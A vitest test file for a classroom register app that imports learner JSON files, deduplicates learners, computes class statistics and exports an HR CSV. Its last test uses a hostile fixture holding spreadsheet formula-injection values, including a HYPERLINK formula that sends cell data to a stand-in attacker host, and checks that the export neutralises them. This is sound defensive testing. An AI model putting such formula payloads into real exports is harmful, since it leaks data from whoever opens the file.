import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
	ALL_CLASSES,
	classCodes,
	classFilter,
	classStats,
	filterRows,
	NO_CLASS,
} from '../../../src/classroom/aggregate';
import { learnerKey } from '../../../src/classroom/dedupe';
import { hrCsv } from '../../../src/classroom/hrCsv';
import type { FileLike } from '../../../src/classroom/importFile';
import { addFiles, emptyRegister } from '../../../src/classroom/register';
import { plan } from './builders';

const DIR = 'tests/fixtures/learners';
const fixture = (name: string): FileLike => {
	const text = readFileSync(`${DIR}/${name}`, 'utf8');
	return { name, size: text.length, text: () => Promise.resolve(text) };
};

describe('class register', () => {
	it('loads the valid files, lists the refused ones, keeps the newest file of a learner', async () => {
		const names = [
			'valida-bianchi-luca-vecchia.json',
			'corrotto-troncato.json',
			'valida-bianchi-luca.json',
			'ostile-markup-formula.json',
		];
		const { register, summary } = await addFiles(emptyRegister(), names.map(fixture), plan);
		expect(summary).toEqual({ read: 4, loaded: 3, refused: 1 });
		expect(register.learners.map((l) => l.fileName).sort()).toEqual([
			'ostile-markup-formula.json',
			'valida-bianchi-luca.json',
		]);
		expect(register.refused).toEqual([{ fileName: 'corrotto-troncato.json', code: 'notJson' }]);
		expect(register.duplicates).toEqual([
			{
				learner: 'Luca Bianchi',
				kept: 'valida-bianchi-luca.json',
				dropped: 'valida-bianchi-luca-vecchia.json',
				keptExportedAt: '2026-11-04T10:00:00.000Z',
				reason: 'older',
			},
		]);
	});

	it('keeps the newest file when the older one comes in a later batch', async () => {
		const first = await addFiles(emptyRegister(), [fixture('valida-bianchi-luca.json')], plan);
		const second = await addFiles(first.register, [fixture('valida-bianchi-luca-vecchia.json')], plan);
		expect(second.register.learners.map((l) => l.fileName)).toEqual(['valida-bianchi-luca.json']);
		expect(second.register.duplicates).toHaveLength(1);
	});

	it('tells people apart by name, administration and staff number, not by case or spacing', () => {
		const base = { nome: 'Maria', cognome: 'Rossi', ente: 'Comune di Valverde' };
		expect(learnerKey(base)).toBe(
			learnerKey({ nome: 'MARIA', cognome: ' rossi', ente: 'comune  di valverde', email: 'x@y.it' }),
		);
		expect(learnerKey(base)).not.toBe(learnerKey({ ...base, matricola: '42' }));
	});

	it('filters by class code and computes the class figures', async () => {
		const names = ['valida-bianchi-luca.json', 'valida-v1-verdi-anna.json', 'ostile-markup-formula.json'];
		const { register } = await addFiles(emptyRegister(), names.map(fixture), plan);
		expect(classCodes(register.rows)).toEqual(['@SOMMA(A1:A9)', 'PA-2026-A', 'PA-2026-B']);
		expect(filterRows(register.rows, classFilter('PA-2026-A')).map((r) => r.file.progress.profile.cognome)).toEqual([
			'Bianchi',
		]);
		expect(filterRows(register.rows, NO_CLASS)).toEqual([]);
		const stats = classStats(filterRows(register.rows, ALL_CLASSES));
		expect(stats).toMatchObject({ learners: 3, completed: 0, completionRate: 0, finalNotTaken: 3 });
		expect(stats.weakest).toBe('name');
	});

	it('writes one CSV row per learner with no live formula', async () => {
		const { register } = await addFiles(
			emptyRegister(),
			[fixture('valida-bianchi-luca.json'), fixture('ostile-markup-formula.json')],
			plan,
		);
		const csv = hrCsv(filterRows(register.rows, ALL_CLASSES), plan);
		const lines = csv.slice(1).split('\r\n');
		expect(lines.at(-1)).toBe('');
		expect(lines).toHaveLength(4);
		expect(lines[2]).toContain('Bianchi;Luca;Comune di Valverde;VV-1024');
		for (const line of lines) {
			for (const cell of line.split(';')) expect(cell.replace(/^"/u, '')).not.toMatch(/^[=+\-@\t\r]/u);
		}
		expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Clicca qui"")"`);
		expect(csv).toContain("'@SOMMA(A1:A9)");
	});
});
